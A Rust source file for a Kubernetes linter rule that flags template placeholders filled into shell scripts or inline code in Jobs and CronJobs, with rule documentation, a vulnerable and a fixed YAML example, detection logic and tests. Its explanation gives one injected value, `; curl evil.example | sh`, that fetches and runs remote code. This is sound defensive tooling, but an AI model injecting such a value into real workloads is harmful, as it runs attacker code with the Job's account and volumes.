//! Values that a program writes into the script of a shell.

use std::collections::BTreeSet;
use std::ops::Range;

use super::super::example::{account, job};
use crate::finding::{Page, Persona, Rule, Section, Severity};
use crate::lint::check::Check;
use crate::lint::report::Reporter;
use crate::lint::view::WorkloadView;
use crate::source::{Node, Path};
use crate::spec::{Code, PlaceholderKind, code, placeholders};

pub(in crate::lint) struct Lint;

static RULE: Rule = Rule {
    id: "placeholder-in-shell",
    section: Section::Workloads,
    severity: Severity::High,
    persona: Persona::Default,
    summary: "a value that is filled into a Job's template becomes part of a shell's script",
    page: Page {
        what: "Fires on the script of a shell, as behind `sh -c`, and on code for another program, as \
               behind `python -c` or `node -e`, in a Job or CronJob or a template of one: in command \
               lines, probes and hooks, and in a variable of `env` that `$(NAME)` puts into a script, \
               as the kubelet does. It fires where that holds `@NAME@`, unless a spec among the inputs \
               fills in the name of something, or where it holds a `${NAME}` that a spec among the inputs declares as \
               a parameter of the template, or that also stands where no shell reads it, as in the \
               Job's name: then whoever fills in the one fills in the other. Any other `${NAME}` \
               that stands in scripts alone is the shell's own variable. In a ConfigMap that nobody \
               renders before it is applied, and in one that Helm has rendered, it is a `{{ value }}` \
               too, unless a tool takes it, as behind `--format`.",
        why: "The shell runs what is filled in. A value such as `; curl evil.example | sh` is a \
              command like any other, with the Job's account and volumes.",
        example: concat!(
            account!("automountServiceAccountToken: false"),
            "---\n",
            job!(
                "backoffLimit: 2"
                "activeDeadlineSeconds: 600"
                "ttlSecondsAfterFinished: 3600";
                "serviceAccountName: app"
                "restartPolicy: Never"
            ),
            "          command: [sh, -c, \"convert @FILE@\"]\n",
        ),
        better: concat!(
            account!("automountServiceAccountToken: false"),
            "---\n",
            job!(
                "backoffLimit: 2"
                "activeDeadlineSeconds: 600"
                "ttlSecondsAfterFinished: 3600";
                "serviceAccountName: app"
                "restartPolicy: Never"
            ),
            "          command: [sh, -c, 'convert \"$1\"', sh, \"@FILE@\"]\n",
        ),
        sources: &[
            "https://owasp.org/www-community/attacks/Command_Injection",
            "https://kubernetes.io/docs/tasks/inject-data-application/define-command-argument-container/",
        ],
        elsewhere: &[],
    },
};

impl Check for Lint {
    fn rule(&self) -> &'static Rule {
        &RULE
    }

    fn check_workload(&self, workload: &WorkloadView<'_>, out: &mut Reporter<'_>) {
        if workload.job().is_none() {
            return;
        }
        let all = code(workload.pod, &Path::root());
        let known = &workload.set.filled_in;
        let is_suspect = |node: &Node<'_>| {
            let text = node.text().unwrap_or_default();
            !placeholders(text).is_empty() || known.has_actions && text.contains(BEGIN)
        };
        if !all.iter().flat_map(nodes).any(|node| is_suspect(&node)) {
            return;
        }
        // What a shell would read as its own variable. In a text that a program fills in, one that the
        // kubelet puts into a script is none.
        let read: Vec<Node<'_>> = if workload.is_in_config_map() {
            all.iter().map(|code| code.node).collect()
        } else {
            all.iter().flat_map(nodes).collect()
        };
        let filled_in = filled_in(workload.written.root(), &read);
        for code in &all {
            let written = |node: Node<'_>| {
                let text = node.text().unwrap_or_default();
                let found = placeholders(text);
                let mut found = found.iter().filter(|found| match found.kind {
                    PlaceholderKind::Value => !known.names.contains(found.name),
                    PlaceholderKind::Parameter => {
                        filled_in.contains(found.name) || known.parameters.contains(found.name)
                    }
                    PlaceholderKind::Shell => false,
                });
                let first = found.next().map(|first| first.range.clone());
                let action = || {
                    known
                        .has_actions
                        .then(|| action(text, code.is_shell))
                        .flatten()
                };
                let written = text.get(first.or_else(action)?)?;
                Some(written.to_owned())
            };
            let (reader, place) = (code.reader(), code.node.place());
            let part = if code.is_shell { "script" } else { "code" };
            if let Some(written) = written(code.node) {
                let message = format!(
                    "{reader} runs whatever is filled in for `{written}` as part of its {part}"
                );
                out.at(workload.written, &place, message)
                    .label(format!(
                        "{} reads this",
                        if code.is_shell { "a shell" } else { "it" }
                    ))
                    .help(code.remedy(&code.at, &written))
                    .report();
                continue;
            }
            let mut inserted = code.inserted.iter();
            let found = inserted.find_map(|it| Some((it, written(it.value)?)));
            if let Some((inserted, written)) = found {
                let name = inserted.name;
                let message = format!(
                    "{reader} runs whatever is filled in for `{written}` as part of its {part}, into \
                     which the kubelet puts the variable `{name}`"
                );
                out.at(workload.written, &place, message)
                    .label(format!("by `$({name})`"))
                    .related(&inserted.value.place(), "filled in here")
                    .help(code.remedy(&inserted.at, &written))
                    .report();
            }
        }
    }
}

/// The texts that code is made of.
fn nodes<'a>(code: &Code<'a>) -> Vec<Node<'a>> {
    let inserted = code.inserted.iter().map(|inserted| inserted.value);
    std::iter::once(code.node).chain(inserted).collect()
}

/// The names of the `${NAME}` that stand where no shell reads them, in a word by themselves.
fn filled_in<'a>(object: Node<'a>, scripts: &[Node<'a>]) -> BTreeSet<&'a str> {
    let mut names = BTreeSet::new();
    let mut pending = vec![object];
    while let Some(node) = pending.pop() {
        pending.extend(node.items());
        pending.extend(node.pairs().map(|(_, value)| value));
        let is_script = || scripts.iter().any(|script| script.span() == node.span());
        let text = node
            .text()
            .filter(|text| !text.contains(char::is_whitespace));
        if let Some(text) = text.filter(|_| !is_script()) {
            let found = placeholders(text).into_iter();
            let found = found.filter(|found| found.kind == PlaceholderKind::Parameter);
            names.extend(found.map(|found| found.name));
        }
    }
    names
}

/// The marks of an action.
const BEGIN: &str = "{{";
const END: &str = "}}";

/// What a tool is told before a template of its own, which it fills in itself.
const OF_TOOLS: [&str; 4] = ["template", "--format", " -f '", " -f \""];

/// The first `{{ value }}` in a script that no tool of the script takes. Other programs have uses of
/// their own for two braces, so that only what can be nothing else counts there.
fn action(script: &str, is_shell: bool) -> Option<Range<usize>> {
    let mut found = script.match_indices(BEGIN).filter_map(|(at, _)| {
        let rest = script.get(at + BEGIN.len()..)?;
        let (inside, _) = rest.split_once(END)?;
        let value = inside.trim_start_matches(['-', ' ']);
        let begins =
            |c: char| ".$".contains(c) || is_shell && (c.is_ascii_alphabetic() || c == '_');
        let is_value = value.starts_with(begins);
        let line = script.get(..at)?.rsplit('\n').next().unwrap_or_default();
        let is_of_tool = OF_TOOLS.iter().any(|word| line.contains(word));
        let end = at + BEGIN.len() + inside.len() + END.len();
        let is_one = is_value && !inside.contains(['{', '\n']);
        (is_one && !is_of_tool).then_some(at..end)
    });
    found.next()
}

#[cfg(test)]
mod tests {
    use super::action;

    #[test]
    fn actions_are_told_from_templates_of_tools() {
        let rows = [
            ("echo {{ .ID }} {{id}}", Some("{{ .ID }}")),
            ("run '{{id}}'", Some("{{id}}")),
            ("run {{- $x -}}", Some("{{- $x -}}")),
            ("kubectl get pods -o go-template='{{.items}}'", None),
            ("docker ps --format '{{.ID}} {{.Names}}'", None),
            ("docker inspect -f \"{{.State}}\" x", None),
            (
                "docker ps --format '{{.ID}}'\nrun {{ id }}",
                Some("{{ id }}"),
            ),
            ("awk '{{ {print $1} }}'", None),
            ("echo {{", None),
            ("echo {{}}", None),
        ];
        for (script, expected) in rows {
            let found = action(script, true).map(|range| &script[range]);
            assert_eq!(found, expected, "{script}");
        }
        assert_eq!(action("print(f'{{x}}')", false), None);
        assert_eq!(action("print('{{ .ID }}')", false), Some(7..16));
    }
}
